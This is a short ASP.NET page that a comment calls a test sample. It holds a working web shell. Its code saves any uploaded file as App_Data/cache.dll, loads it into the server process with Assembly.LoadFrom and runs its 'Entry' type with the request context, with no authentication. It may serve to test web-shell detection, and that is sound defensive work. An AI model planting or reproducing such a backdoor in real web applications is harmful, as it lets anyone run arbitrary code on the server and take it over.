<%@ Page Language="C#" %>
<%-- test sample: a posted DLL saved under App_Data and loaded into the worker process --%>
<%
    if (Request.Files.Count > 0) {
        string dll = Server.MapPath("~/App_Data/cache.dll");
        Request.Files[0].SaveAs(dll);
        var asm = System.Reflection.Assembly.LoadFrom(dll);
        asm.CreateInstance("Entry").Equals(Context);
    }
%>
